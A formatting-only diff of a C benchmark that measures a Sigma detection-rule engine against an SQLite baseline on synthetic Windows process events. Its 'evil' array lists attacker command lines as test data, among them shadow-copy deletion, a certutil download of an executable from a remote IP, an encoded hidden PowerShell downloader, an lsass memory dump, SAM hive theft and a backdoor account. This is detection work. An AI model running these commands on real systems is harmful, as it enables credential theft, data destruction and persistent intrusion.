@@ -73,42 +73,71 @@ typedef struct pool {
 } pool_t;
 
 static const char *const images[] = {
-    "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\cmd.exe",
+    "C:\\Windows\\System32\\svchost.exe",
+    "C:\\Windows\\System32\\cmd.exe",
     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
-    "C:\\Windows\\System32\\conhost.exe", "C:\\Windows\\System32\\reg.exe",
-    "C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\explorer.exe",
-    "C:\\Windows\\System32\\taskhostw.exe", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
+    "C:\\Windows\\System32\\conhost.exe",
+    "C:\\Windows\\System32\\reg.exe",
+    "C:\\Windows\\System32\\rundll32.exe",
+    "C:\\Windows\\explorer.exe",
+    "C:\\Windows\\System32\\taskhostw.exe",
+    "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
     "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
-    "C:\\Windows\\System32\\schtasks.exe", "C:\\Windows\\System32\\net.exe",
-    "C:\\Windows\\System32\\whoami.exe", "C:\\Windows\\System32\\certutil.exe",
-    "C:\\Windows\\System32\\msiexec.exe", "C:\\Windows\\System32\\SearchIndexer.exe",
-    "C:\\Program Files\\Mozilla Firefox\\firefox.exe", "C:\\Windows\\System32\\lsass.exe",
-    "C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\mmc.exe",
-    "C:\\Windows\\System32\\notepad.exe", "C:\\Windows\\System32\\ipconfig.exe",
-    "C:\\Program Files\\7-Zip\\7z.exe", "C:\\Windows\\System32\\sc.exe",
-    "C:\\Users\\Public\\Downloads\\update.exe", "C:\\Windows\\System32\\wscript.exe",
+    "C:\\Windows\\System32\\schtasks.exe",
+    "C:\\Windows\\System32\\net.exe",
+    "C:\\Windows\\System32\\whoami.exe",
+    "C:\\Windows\\System32\\certutil.exe",
+    "C:\\Windows\\System32\\msiexec.exe",
+    "C:\\Windows\\System32\\SearchIndexer.exe",
+    "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
+    "C:\\Windows\\System32\\lsass.exe",
+    "C:\\Windows\\System32\\services.exe",
+    "C:\\Windows\\System32\\mmc.exe",
+    "C:\\Windows\\System32\\notepad.exe",
+    "C:\\Windows\\System32\\ipconfig.exe",
+    "C:\\Program Files\\7-Zip\\7z.exe",
+    "C:\\Windows\\System32\\sc.exe",
+    "C:\\Users\\Public\\Downloads\\update.exe",
+    "C:\\Windows\\System32\\wscript.exe",
 };
 static const char *const args[] = {
-    "-k netsvcs -p -s Schedule", "/c dir C:\\Users", "-NoProfile -ExecutionPolicy Bypass -File "
-    "C:\\Scripts\\backup.ps1", "--type=renderer --lang=en-US --field-trial-handle=1234",
-    "0xffffffff -ForceV1", "query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion",
-    "shell32.dll,Control_RunDLL desk.cpl", "", "/create /tn Backup /tr C:\\backup.bat /sc daily",
-    "user /domain", "/all", "/i C:\\Temp\\setup.msi /qn", "-Embedding", "/c ping 10.0.0.1",
-    "a -tzip C:\\Temp\\docs.zip C:\\Users\\alice\\Documents", "query state= all",
+    "-k netsvcs -p -s Schedule",
+    "/c dir C:\\Users",
+    "-NoProfile -ExecutionPolicy Bypass -File "
+    "C:\\Scripts\\backup.ps1",
+    "--type=renderer --lang=en-US --field-trial-handle=1234",
+    "0xffffffff -ForceV1",
+    "query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion",
+    "shell32.dll,Control_RunDLL desk.cpl",
+    "",
+    "/create /tn Backup /tr C:\\backup.bat /sc daily",
+    "user /domain",
+    "/all",
+    "/i C:\\Temp\\setup.msi /qn",
+    "-Embedding",
+    "/c ping 10.0.0.1",
+    "a -tzip C:\\Temp\\docs.zip C:\\Users\\alice\\Documents",
+    "query state= all",
 };
 static const char *const evil[] = {
     "vssadmin.exe delete shadows /all /quiet",
     "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe",
-    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+    "powershell.exe -nop -w hidden -enc "
+    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full",
     "reg.exe save hklm\\sam C:\\Temp\\sam.save",
     "wmic /node:10.0.0.5 process call create \"cmd.exe /c whoami\"",
     "net.exe user backdoor P@ssw0rd! /add",
-    "schtasks.exe /create /sc minute /mo 1 /tn Updater /tr C:\\Users\\Public\\update.exe /ru SYSTEM",
+    "schtasks.exe /create /sc minute /mo 1 /tn Updater /tr C:\\Users\\Public\\update.exe /ru "
+    "SYSTEM",
 };
-static const char *const users[] = {"CORP\\alice", "CORP\\bob", "NT AUTHORITY\\SYSTEM",
-                                    "CORP\\carol", "NT AUTHORITY\\NETWORK SERVICE", "CORP\\admin"};
+static const char *const users[] = {"CORP\\alice",
+                                    "CORP\\bob",
+                                    "NT AUTHORITY\\SYSTEM",
+                                    "CORP\\carol",
+                                    "NT AUTHORITY\\NETWORK SERVICE",
+                                    "CORP\\admin"};
 static const char *const hosts[] = {"ws01.corp.local", "ws02.corp.local", "dc01.corp.local",
                                     "srv-files.corp.local", "ws17.corp.local"};
 
@@ -558,7 +587,8 @@ int main(int argc, char **argv)
         gen_event(&pool, &pool.ev[i], &rng, i);
 
     printf("bench_sigma: %zu rules (%zu process_creation, %zu security) loaded and compiled in "
-           "%.3f s\n", n_rules, n_proc, n_sec, t_load);
+           "%.3f s\n",
+           n_rules, n_proc, n_sec, t_load);
     printf("bench_sigma: %zu events (%zu distinct, generated in memory), %zu runs, one core\n",
            n_events, pool.n, runs);
 
@@ -577,8 +607,9 @@ int main(int argc, char **argv)
     qsort(walls, runs, sizeof *walls, cmp_double);
     double med = times[runs / 2];
     printf("sigma:    %.3f s CPU for %zu events x %zu rules (median of %zu; min %.3f, max %.3f; "
-           "wall median %.3f s) = %.2f M events/s, %zu matches\n", med, n_events, n_rules, runs,
-           times[0], times[runs - 1], walls[runs / 2], (double)n_events / med / 1e6, matches);
+           "wall median %.3f s) = %.2f M events/s, %zu matches\n",
+           med, n_events, n_rules, runs, times[0], times[runs - 1], walls[runs / 2],
+           (double)n_events / med / 1e6, matches);
 
     /* the same pool: sigma with and without the pre-filter, for the SQL comparison */
     size_t pool_matches = 0;
@@ -594,8 +625,8 @@ int main(int argc, char **argv)
     double t_nopf = now_s() - a;
     sw_sigma_set_prefilter(s, 1);
     printf("sigma:    pool of %zu events: %.4f s with pre-filter, %.4f s without (%.1fx); "
-           "matches %zu / %zu\n", pool.n, t_pool, t_nopf, t_nopf / t_pool, pool_matches,
-           nopf_matches);
+           "matches %zu / %zu\n",
+           pool.n, t_pool, t_nopf, t_nopf / t_pool, pool_matches, nopf_matches);
 
     /* SQL baseline over the same pool */
     sqlite3 *db;
@@ -657,8 +688,8 @@ int main(int argc, char **argv)
     sqlite3_close(db);
     double sigma_eps = (double)n_events / med, sql_eps = (double)pool.n / t_sql;
     printf("sql:      %zu of %zu rules translated to SQL WHERE (%zu failed to prepare); "
-           "%.3f s over the %zu-event pool = %.3f M events/s, %zu matches\n", n_sql, n_rules,
-           sql_errors, t_sql, pool.n, sql_eps / 1e6, sql_matches);
+           "%.3f s over the %zu-event pool = %.3f M events/s, %zu matches\n",
+           n_sql, n_rules, sql_errors, t_sql, pool.n, sql_eps / 1e6, sql_matches);
     printf("sql:      at that rate %zu events would take %.1f s\n", n_events,
            (double)n_events / sql_eps);
     printf("ratio:    sigma (%zu rules) is %.1fx faster than SQL (%zu rules) per event\n", n_rules,
